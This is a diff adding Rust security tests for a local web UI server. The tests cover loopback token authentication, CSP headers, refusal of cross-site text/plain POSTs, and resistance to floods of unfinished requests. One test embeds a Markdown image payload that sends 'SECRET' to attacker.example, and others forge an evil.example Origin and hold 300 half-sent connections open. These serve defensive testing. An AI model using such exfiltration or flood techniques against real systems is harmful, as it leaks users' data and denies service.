@@ -16,8 +16,10 @@ fn local_mode_banner_and_plain_routes() {
     let mut server = home.serve(&[]);
     let banner = server.banner.join("\n");
     assert!(banner.contains("WEB UI (Technical Preview)"), "{banner}");
-    assert!(banner.contains(&format!("  ➜  Local    http://127.0.0.1:{}", server.port)), "{banner}");
-    assert!(banner.contains("    • Use -n / --network to share on LAN") && !banner.contains("Token:"), "{banner}");
+    let token = server.token.clone().expect("a token on loopback too");
+    assert_eq!(token.len(), 43, "{banner}");
+    assert!(banner.contains(&format!("  ➜  Local    http://127.0.0.1:{}/?token={token}", server.port)), "{banner}");
+    assert!(banner.contains("    • Use -n / --network to share on LAN"), "{banner}");
     let health = server.http("GET", "/healthz", &[], None);
     assert_eq!((health.status, health.body.as_str()), (200, r#"{"status":"ok"}"#));
     // The slash-less list path is also served (`docs/web-api.md`); other unknown paths are 404.
@@ -30,6 +32,10 @@ fn local_mode_banner_and_plain_routes() {
     let page = server.http("GET", "/", &[], None);
     assert_eq!(page.status, 200);
     assert_eq!(page.header("cache-control"), Some("no-cache, no-store, must-revalidate"));
+    // Issue 30 item 4: the page may load and connect only to its own origin.
+    let csp = page.header("content-security-policy").expect("the page carries a CSP");
+    assert!(csp.contains("default-src 'self'") && csp.contains("img-src 'self' data: blob:;"), "{csp}");
+    assert!(csp.contains(&format!("connect-src 'self' ws://127.0.0.1:{}", server.port)), "{csp}");
     let status = server.terminate().expect("exits on SIGTERM");
     assert!(status.success(), "{status:?}");
 }
@@ -54,19 +60,87 @@ fn tokens_guard_the_api_in_lan_mode() {
     let banner = server.banner.join("\n");
     assert!(banner.contains(&format!("  ➜  Local    http://localhost:{}/?token=tok%20123", server.port)), "{banner}");
     assert!(banner.contains("  Token:   tok 123") && banner.contains("  Mode: LAN only (private IPs)"), "{banner}");
-    let unauthorized = server.http("GET", "/api/sessions/", &[], None);
+    let unauthorized = http(server.port, "GET", "/api/sessions/", &[], None);
     assert_eq!((unauthorized.status, unauthorized.body.as_str()), (401, r#"{"detail":"Unauthorized"}"#));
     let wrong = server.http("GET", "/api/sessions/", &[("Authorization", "Bearer tok")], None);
     assert_eq!(wrong.status, 401);
     // Past the guard: the route (or its absence) answers.
     let bearer = server.http("GET", "/api/nothing", &[("Authorization", "bearer tok 123")], None);
     assert_eq!(bearer.status, 404);
-    let query = server.http("GET", "/api/nothing?token=tok%20123", &[], None);
+    let query = http(server.port, "GET", "/api/nothing?token=tok%20123", &[], None);
     assert_eq!(query.status, 404);
-    let post_query = server.http("POST", "/api/nothing?token=tok%20123", &[], Some("{}"));
+    let post_query = http(server.port, "POST", "/api/nothing?token=tok%20123", &[], Some("{}"));
     assert_eq!(post_query.status, 401, "the query token is for GET only");
     assert_eq!(server.http("GET", "/healthz", &[], None).status, 200);
     assert_eq!(server.http("GET", "/", &[], None).status, 200);
+}
+
+/// Issue 30 item 1: on loopback (the default) the API needs the token the banner prints; the
+/// user's own token may come from a file or `KIWI_WEB_AUTH_TOKEN` (never seen by tools), and only
+/// `--dangerously-omit-auth` serves without one.
+#[test]
+fn loopback_requires_the_printed_token_unless_auth_is_omitted() {
+    let home = scripted_home();
+    let server = home.serve(&[]);
+    let token = server.token.clone().expect("the banner prints a token");
+    let anonymous = http(server.port, "POST", "/api/sessions/", &[], Some("{}"));
+    assert_eq!((anonymous.status, anonymous.body.as_str()), (401, r#"{"detail":"Unauthorized"}"#));
+    assert_eq!(http(server.port, "GET", "/api/sessions/", &[], None).status, 401);
+    let id = home.new_session();
+    let refused = server.ws_as(&id, "", &[]).map(|_| ()).unwrap_err();
+    assert!(matches!(refused, tungstenite::Error::Http(ref r) if r.status() == 403), "{refused:?}");
+    let bearer = format!("Bearer {token}");
+    assert_eq!(http(server.port, "GET", "/api/sessions/", &[("Authorization", &bearer)], None).status, 200);
+    assert_eq!(http(server.port, "GET", &format!("/api/sessions/?token={token}"), &[], None).status, 200);
+    assert!(server.ws(&id, "", &[]).is_ok());
+    drop(server);
+
+    // From a file (first line, trimmed) and from the environment; a flag wins over both.
+    let file = home.dir.path().join("token.txt");
+    std::fs::write(&file, "file-tok\n").unwrap();
+    let server = home.serve(&["--auth-token-file", file.to_str().unwrap()]);
+    assert_eq!(server.token.as_deref(), Some("file-tok"));
+    assert_eq!(http(server.port, "GET", "/api/sessions/", &[("Authorization", "Bearer file-tok")], None).status, 200);
+    drop(server);
+    let mut cmd = home.command(&["-p", &free_port().to_string()]);
+    cmd.env("KIWI_WEB_AUTH_TOKEN", "env-tok");
+    let server = super::web_kit::Server::start(cmd);
+    assert_eq!(server.token.as_deref(), Some("env-tok"));
+    assert_eq!(http(server.port, "GET", "/api/sessions/", &[("Authorization", "Bearer env-tok")], None).status, 200);
+    assert_eq!(http(server.port, "GET", "/api/sessions/", &[], None).status, 401);
+    drop(server);
+    let output = home.command(&["--auth-token-file", "/nonexistent/kiwi-token"]).output().unwrap();
+    assert_eq!(output.status.code(), Some(1));
+    let stderr = String::from_utf8_lossy(&output.stderr);
+    assert!(stderr.starts_with("Cannot read the token file /nonexistent/kiwi-token: "), "{stderr}");
+
+    let server = home.serve(&["--dangerously-omit-auth"]);
+    assert!(server.token.is_none() && !server.banner.join("\n").contains("?token="), "{:?}", server.banner);
+    assert_eq!(http(server.port, "GET", "/api/sessions/", &[], None).status, 200);
+}
+
+/// Issue 30 item 2: a web page may POST `text/plain` without a preflight; whatever the mode, a
+/// write from an Origin the CORS rule refuses is refused, and JSON is read only as JSON.
+#[test]
+fn cross_site_writes_are_refused_in_local_mode() {
+    let home = scripted_home();
+    let server = home.serve(&["--dangerously-omit-auth"]);
+    let work = home.work();
+    let body = serde_json::json!({"work_dir": work, "create_dir": true}).to_string();
+    let forged = [("Origin", "http://evil.example"), ("Content-Type", "text/plain")];
+    let r = server.http("POST", "/api/sessions/", &forged, Some(&body));
+    assert_eq!((r.status, r.body.as_str()), (403, r#"{"detail":"Origin not allowed"}"#));
+    let own = format!("http://localhost:{}", server.port);
+    let plain = [("Origin", own.as_str()), ("Content-Type", "text/plain")];
+    let r = server.http("POST", "/api/sessions/", &plain, Some(&body));
+    assert_eq!((r.status, r.body.as_str()), (415, r#"{"detail":"Content-Type must be application/json"}"#));
+    assert_eq!(server.get_json("/api/sessions/").1, serde_json::json!([]), "nothing was created");
+    let r = server.http("POST", "/api/sessions/", &[("Origin", own.as_str())], Some(&body));
+    assert_eq!(r.status, 200, "{}", r.body);
+    // Reads from another origin are CORS's business (no allow header), as before.
+    let read = server.http("GET", "/api/sessions/", &[("Origin", "http://evil.example")], None);
+    assert_eq!(read.status, 200);
+    assert!(read.header("access-control-allow-origin").is_none());
 }
 
 #[test]
@@ -124,6 +198,7 @@ fn omitting_auth_on_a_public_address_needs_a_terminal() {
     // Local mode accepts it silently.
     let server = home.serve(&["--dangerously-omit-auth"]);
     assert_eq!(server.http("GET", "/healthz", &[], None).status, 200);
+    assert!(server.token.is_none());
 }
 
 #[test]
@@ -133,4 +208,78 @@ fn the_help_flag_is_long_only() {
     assert!(output.status.success());
     let help = String::from_utf8_lossy(&output.stdout);
     assert!(help.contains("--dangerously-omit-auth") && help.contains("-h, --host"), "{help}");
+    assert!(help.contains("--auth-token-file"), "{help}");
+}
+
+/// Issue 30 item 4 and the "also found" list: the UI's Markdown renderer (run in Node.js) shows a
+/// remote image as a link instead of loading it, still draws `data:` images, and keeps a code
+/// span inside a link's label (it rendered as `0`).
+#[test]
+fn markdown_never_loads_remote_images_and_keeps_code_in_links() {
+    let module = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("src/web/ui/assets/markdown.js");
+    let script = format!(
+        "import {{ renderMarkdown }} from {:?};\n\
+         const out = [\"![leak](https://attacker.example/?d=SECRET)\", \"![dot](data:image/png;base64,iVBORw0KGgo=)\",\n\
+           \"see [`cargo test`](https://doc.rust-lang.org)\"].map(renderMarkdown);\n\
+         console.log(JSON.stringify(out));",
+        format!("file://{}", module.display())
+    );
+    let output = match std::process::Command::new("node").args(["--input-type=module", "-e", &script]).output() {
+        Ok(o) => o,
+        Err(e) => return crate::npm::skip("the Markdown renderer test", &format!("Node.js cannot be run: {e}")),
+    };
+    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
+    let out: Vec<String> = serde_json::from_slice(&output.stdout).unwrap();
+    assert!(!out[0].contains("<img"), "a remote image is never loaded: {}", out[0]);
+    assert!(out[0].contains(r#"<a class="remote-image" href="https://attacker.example/?d=SECRET""#), "{}", out[0]);
+    assert!(out[1].contains(r#"<img src="data:image/png;base64,iVBORw0KGgo=""#), "{}", out[1]);
+    assert!(out[2].contains("<code>cargo test</code></a>"), "{}", out[2]);
+}
+
+/// Issue 30 item 5: requests that never finish their head, and keep-alive connections left
+/// idle, are closed by the server (within its head-read limit), so a flood of them against a
+/// process with few descriptors (256 here, soft and hard) neither exhausts them for good nor
+/// keeps the server unreachable.
+#[test]
+fn unfinished_requests_are_dropped_and_the_server_stays_reachable() {
+    use std::io::{Read as _, Write as _};
+    use std::os::unix::process::CommandExt as _;
+    let home = scripted_home();
+    let mut cmd = home.command(&["-p", &free_port().to_string(), "--dangerously-omit-auth"]);
+    // SAFETY: only setrlimit, which is async-signal-safe, runs between fork and exec.
+    unsafe {
+        cmd.pre_exec(|| {
+            let limit = libc::rlimit { rlim_cur: 256, rlim_max: 256 };
+            libc::setrlimit(libc::RLIMIT_NOFILE, &limit);
+            Ok(())
+        });
+    }
+    let server = super::web_kit::Server::start(cmd);
+    assert_ne!(server.port, 0, "{:?}", server.banner);
+    let mut idle = std::net::TcpStream::connect(("127.0.0.1", server.port)).unwrap();
+    idle.write_all(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n").unwrap();
+    let mut flood = Vec::new();
+    for _ in 0..300 {
+        let Ok(mut c) = std::net::TcpStream::connect(("127.0.0.1", server.port)) else { break };
+        let _ = c.write_all(b"GET /api/sessions/ HTTP/1.1\r\nHost: localhost\r\nX-Slow: ");
+        flood.push(c);
+    }
+    assert!(flood.len() > 256, "the flood is bigger than the descriptors: {}", flood.len());
+    // Every connection, the idle keep-alive one included, is closed by the server.
+    let closed = |c: &mut std::net::TcpStream| -> bool {
+        c.set_read_timeout(Some(super::web_kit::WAIT * 2)).unwrap();
+        let mut sink = Vec::new();
+        c.read_to_end(&mut sink).is_ok()
+    };
+    assert!(closed(&mut idle), "the idle keep-alive connection stays open");
+    let held = flood.iter_mut().take(50).map(closed).filter(|done| !done).count();
+    assert_eq!(held, 0, "unfinished requests are held");
+    drop(flood);
+    assert!(
+        super::web_kit::wait_until(super::web_kit::WAIT, || {
+            std::net::TcpStream::connect(("127.0.0.1", server.port)).is_ok()
+                && server.http("GET", "/healthz", &[], None).status == 200
+        }),
+        "the server is unreachable after the flood"
+    );
 }
